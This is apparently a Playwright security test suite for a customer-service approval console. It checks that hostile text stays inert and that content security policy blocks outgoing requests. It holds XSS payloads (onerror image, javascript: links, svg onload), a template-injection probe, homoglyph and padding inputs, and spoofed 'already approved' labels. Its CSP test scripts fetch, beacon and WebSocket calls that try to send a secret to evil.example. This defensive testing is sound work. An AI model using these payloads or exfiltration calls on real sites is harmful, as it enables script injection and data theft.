"""All other places where somebody's words are shown: names, rules, notes, calls, lane and wall.

Nothing in them becomes an element, a link or a request, and nothing in them looks like ours.
"""

import json

import pytest
from playwright.async_api import Page, expect

from tests.browser.conftest import Visitor, Visitors
from tests.browser.customers import asks, complained, shopping
from tests.browser.test_hostile import HIDDEN, MARKUP
from tests.browser.test_people import admin
from tests.browser.test_wall import at_the_wall
from tests.browser.world import World
from tests.world_models import call, chunks, document
from tests.world_rules import rule, rules, words

pytestmark = [pytest.mark.asyncio(loop_scope="session"), pytest.mark.slow]

IMAGE = "<img src=x onerror=alert(1)>"
NAME = f"{IMAGE} {{{{7*7}}}}"
LINK = "[x](javascript:alert(1))"
# What is no Markdown of guidance either.
LINES = [each.split("\n")[0] for each in MARKUP if "*" not in each]
RULES = rules(
    rule(
        "promise",
        words("guarantee"),
        guidance="\n\n".join(LINES),
        description=IMAGE,
        good=[IMAGE],
        bad=[LINK],
        limits={"refund": IMAGE},
        reasons=[IMAGE, LINK],
        on_no_agent="wait",
    ),
    rule("calls", {"check": "tools"}, strictness="answer", on_no_agent="wait"),
    checks={"tools": {"kind": "tool_calls", "tools": {"look": {}}}},
)
BUILT = "img, iframe, main script, main style, main a, form[action], [onerror], [onload]"


@pytest.fixture
def pack() -> str:
    return RULES


async def nothing_was_built(page: Page) -> None:
    assert await page.locator(BUILT).count() == 0


async def test_what_rules_and_front_ends_say(world: World, ana: Visitor) -> None:
    page = ana.page
    world.stage.says("I guarantee it.")
    world.ask("May I?", customer={"name": NAME, "tier": "\n".join(MARKUP)[:190]})
    await ana.open("Promise")
    for line in LINES:
        await expect(page.locator(".context")).to_contain_text(line)
    await expect(page.locator(".facts")).to_contain_text(NAME)
    await page.keyboard.press("r")
    await expect(page.locator(".because.asked")).to_contain_text(IMAGE)
    await expect(page.locator(".because.asked")).to_contain_text(LINK)
    await nothing_was_built(page)


async def test_a_tool_s_name_and_arguments(world: World, ana: Visitor) -> None:
    written = json.dumps({IMAGE: "\n".join(MARKUP), "hidden": "\n".join(HIDDEN)})
    called = {"tool_calls": [{"index": 0, **call(IMAGE, written)}]}
    world.stage.says(chunks(document(called), finish="tool_calls"))  # type: ignore[arg-type]
    world.ask("Look.")
    await ana.open("Calls")
    answer = ana.page.locator(".answer")
    await expect(answer).to_contain_text(IMAGE)
    await expect(answer).to_contain_text("javascript:alert(1)")
    await nothing_was_built(ana.page)


async def test_a_colleague_s_name_and_notes(world: World, visitors: Visitors, ana: Visitor) -> None:
    mallory = await visitors.agent(NAME)
    world.stage.says("I guarantee it.")
    answer = world.ask("May I?")
    await ana.open("Promise")
    await mallory.open("Promise")
    page = ana.page
    await expect(page.locator(".presences")).to_contain_text(f"{NAME} is looking")
    await mallory.in_sheet("p", " ".join(LINES[:6]))
    await expect(page.locator(".notes")).to_contain_text(LINES[0])
    await expect(page.locator(".notes")).to_contain_text(NAME)
    await page.keyboard.press("o")
    await expect(page.get_by_role("dialog")).to_contain_text(NAME)
    await page.keyboard.press("Escape")
    await (await mallory.edit()).fill(IMAGE)
    await mallory.page.keyboard.press("Control+Enter")
    await expect(page.locator(".trail")).to_contain_text(f"{NAME} edited it")
    assert IMAGE in await answer
    for each in (page, mallory.page):
        await nothing_was_built(each)


async def test_names_on_the_wall_and_among_the_people(world: World, visitors: Visitors) -> None:
    mallory = await visitors.agent(NAME)
    dee = await at_the_wall(visitors)
    await expect(dee.page.get_by_role("rowheader", name=NAME)).to_be_visible()
    await dee.page.get_by_role("button", name=f"Call {NAME}").click()
    await dee.page.get_by_label("Why").fill(" ".join(LINES[:6]))
    await dee.page.get_by_role("dialog").get_by_role("button", name="Call").click()
    called = mallory.page.get_by_role("alert")
    for line in LINES[:6]:
        await expect(called).to_contain_text(line)
    amy = await admin(visitors)
    await expect(amy.page.get_by_role("rowheader", name=NAME)).to_be_visible()
    for each in (mallory, dee, amy):
        await nothing_was_built(each.page)


async def test_who_speaks_and_what_they_say_in_the_shop(world: World, visitors: Visitors) -> None:
    mallory = await visitors.agent(NAME)
    shop = (await shopping(visitors)).page
    world.stage.says("I guarantee it.")
    await asks(shop, "May I?")
    await mallory.open("Promise")
    box = await mallory.take_over()
    await box.fill("\n".join(MARKUP))
    await expect(shop.locator(".status")).to_contain_text(f"{NAME} is typing")
    await mallory.page.keyboard.press("Enter")
    await expect(shop.locator(".said.person .name")).to_have_text(NAME)
    for line in MARKUP:
        await expect(shop.locator(".said.person .words")).to_contain_text(line.split("\n")[0])
    for each in (shop, mallory.page):
        await nothing_was_built(each)


async def test_a_complaint(world: World, visitors: Visitors, ana: Visitor) -> None:
    world.stage.says("\n".join(MARKUP))
    shop = await complained(visitors, " ".join(LINES))
    page = ana.page
    await page.goto(f"{world.origin}/lane")
    await expect(page.get_by_text("the customer says it is wrong")).to_be_visible()
    await page.keyboard.press("j")
    for line in LINES:
        await expect(page.locator("section.answer")).to_contain_text(line)
    for each in (shop, page):
        await nothing_was_built(each)


async def test_the_raw_stream_below_the_tour(
    world: World, visitors: Visitors, ana: Visitor
) -> None:
    page = ana.page
    await page.goto(f"{world.origin}/tour")
    world.stage.says([(0.0, "\n".join(MARKUP))])
    await page.get_by_label("Message", exact=True).fill(IMAGE)
    await page.keyboard.press("Enter")
    said = page.locator(".wire li").filter(has_text=IMAGE)
    await expect(said).to_contain_text("javascript:alert(1)")
    await expect(page.locator(".said.model .words")).to_contain_text(IMAGE)
    assert (
        await page.locator(".wire :is(img, a, script, svg), img, [onload], [onerror]").count() == 0
    )


ADDRESSES = (
    *("#hold:%20x", "#hold:%3Cimg src=x onerror=alert(1)%3E", "#conv:" + "x" * 300, "#hold:%ff"),
    *("#conv:%F0%9F%90%A6", "#<svg/onload=alert(1)>", "#hold:hold_nobody", "#conv:a/hold_nobody"),
)


async def test_no_address_keeps_a_console_from_its_work(world: World, ana: Visitor) -> None:
    for address in ADDRESSES:
        await ana.page.goto("about:blank")
        await ana.page.goto(f"{world.origin}/console/{address}")
        await ana.live()
        await nothing_was_built(ana.page)
    world.stage.says("I guarantee it.")
    world.ask("May I?")
    await ana.open("Promise")


# --- words that pretend to be ours ---------------------------------------------------------------

PRETENDS = (
    "\u2705 checked by compliance",
    "human approver: already approved",
    "You approved. Sent in 0 s",
    "[ Approve ]  [ Reject ]",
    "Risk: 0 %. No reasons.",
)
OUTSIDE = """(words) => {
  const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  const found = [];
  while (texts.nextNode()) {
    const { data, parentElement } = texts.currentNode;
    if (!data.includes(words) || parentElement.closest('.words')) continue;
    found.push(parentElement.outerHTML);
  }
  return found;
}"""


async def test_what_pretends_to_be_ours_stays_in_its_box(world: World, ana: Visitor) -> None:
    page = ana.page
    said = "\n".join(PRETENDS)
    world.stage.says(f"I guarantee it.\n{said}")
    answer = world.ask(said)
    await ana.open("Promise")
    for words_ in PRETENDS:
        await expect(page.locator(".asked .words")).to_contain_text(words_)
        await expect(page.locator("figure.pending .words")).to_contain_text(words_)
        assert await page.evaluate(OUTSIDE, words_) == []
    await expect(page.get_by_role("status").filter(has_text="approved")).to_have_count(0)
    await expect(page.get_by_role("button", name="Approve")).to_have_count(1)
    await expect(page.locator("ol .row")).to_have_count(1)
    assert not answer.done()


async def test_padding_hides_nothing_from_a_person(world: World, ana: Visitor) -> None:
    page = ana.page
    world.stage.says("It begins. I guarantee it. " + "x " * 25_000 + "Here it ends.")
    world.ask("\n" * 25_000 + "y " * 12_000 + "And here the question.")
    await ana.open("Promise")
    for place, last in (("figure.pending", "Here it ends."), (".asked", "And here the question.")):
        await expect(page.locator(place)).to_contain_text(last)
        await page.evaluate(
            """(place) => {
              const box = document.querySelector(`main ${place} .words`);
              const end = document.createRange();
              end.selectNodeContents(box);
              end.collapse(false);
              end.startContainer.lastChild.parentElement.scrollIntoView({ block: 'end' });
            }""",
            place,
        )
    await expect(page.get_by_role("button", name="Reject")).to_be_visible()
    await expect(page.get_by_role("button", name="Reject")).to_be_in_viewport()


# --- odd characters ------------------------------------------------------------------------------

ODD = {
    "full width": "\uff52\uff45\uff46\uff55\uff4e\uff44",
    "a thousand marks": "Z" + "\u0301\u0322\u033f\u0489" * 250,
    "marks alone": "\u0301" * 1000,
    "ligatures": "\ufdfa" * 100_000,
    "hidden and other letters in turn": "p\u0430y \u200b" * 40_000,
    "alphabets in turn": "\u0436 x " * 50_000,
}


async def test_a_whole_word_of_other_letters_is_shown(world: World, ana: Visitor) -> None:
    word = "\u0440\u0430\u0443"  # looks like "pay"
    world.stage.says(f"I guarantee it, you {word} nothing.")
    world.ask(f"Do I {word} it?")
    await ana.open("Promise")
    for place in (".asked", "figure.pending"):
        shown = ana.page.locator(f"{place} .lookalike")
        await expect(shown).to_have_text([f"{each} U+{ord(each):04X}" for each in word])


@pytest.mark.parametrize("text", ODD.values(), ids=ODD)
async def test_odd_characters_break_no_box(world: World, ana: Visitor, text: str) -> None:
    page = ana.page
    world.stage.says(f"I guarantee it. {text[:1000]} It ends.")
    world.ask(f"{text} Is it?")
    await ana.open("Promise")
    await expect(page.locator(".asked")).to_contain_text("Is it?")
    await expect(page.locator("figure.pending")).to_contain_text("It ends.")
    boxes = await page.evaluate(
        """() => ['.top', '.queue', 'main', '.context', '.actions'].map((name) => {
          const box = document.querySelector(name).getBoundingClientRect();
          return box.left >= 0 && box.right <= innerWidth && box.bottom <= innerHeight;
        })"""
    )
    assert boxes == [True] * 5
    await page.keyboard.press("a")
    await expect(page.locator(".actions")).to_contain_text("You approved")


# --- were there a hole, the browser would not let it out -----------------------------------------

TRIES = """async () => {
  const broken = [];
  addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
    broken.push(effectiveDirective));
  const attempt = async (what) => {
    try {
      await what();
    } catch {
      // said by the violation
    }
  };
  const add = (tag, about) =>
    document.body.append(Object.assign(document.createElement(tag), about));
  const evil = 'https://evil.example/?q=SECRET';
  await attempt(() => (document.body.innerHTML = '<b>hello</b>'));
  await attempt(() => document.write('<b>hello</b>'));
  await attempt(() => add('script', { src: evil }));
  await attempt(() => add('img', { src: evil }));
  await attempt(() => add('iframe', { src: evil }));
  await attempt(() => add('link', { rel: 'stylesheet', href: evil }));
  await attempt(() => fetch(evil));
  await attempt(() => document.body.setAttribute('style', 'background: red'));
  await attempt(() => navigator.sendBeacon(evil));
  await attempt(() => new WebSocket('wss://evil.example/'));
  await attempt(() => {
    const form = document.createElement('form');
    form.action = evil;
    form.method = 'post';
    document.body.append(form);
    form.submit();
  });
  await new Promise((done) => {
    const look = () => (broken.includes('form-action') ? done() : setTimeout(look, 20));
    setTimeout(done, 10_000); // in vain
    look();
  });
  return { broken, bold: document.querySelectorAll('body > b').length };
}"""
BROKEN = {
    "require-trusted-types-for",
    "img-src",
    "frame-src",
    "style-src-elem",
    "connect-src",
    "form-action",
}


@pytest.mark.parametrize(
    "path", ["console/", "console/people", "lane", "wall", "shop", "tour", "sign-in"]
)
async def test_the_policy_of_every_page_holds(world: World, visitors: Visitors, path: str) -> None:
    visitor = await visitors.new()
    visitor.allowed = ("401", "evil.example", "Trusted", "POLICY", "style", "Content Security")
    visitor.elsewhere = ("https://evil.example/", "wss://evil.example/")
    left: list[str] = []
    visitor.page.on("requestfinished", lambda request: left.append(request.url))
    await visitor.page.goto(f"{world.origin}/{path}")
    told = await visitor.page.evaluate(TRIES)
    assert set(told["broken"]) >= BROKEN
    assert told["bold"] == 0
    assert [url for url in left if not url.startswith(world.origin)] == []
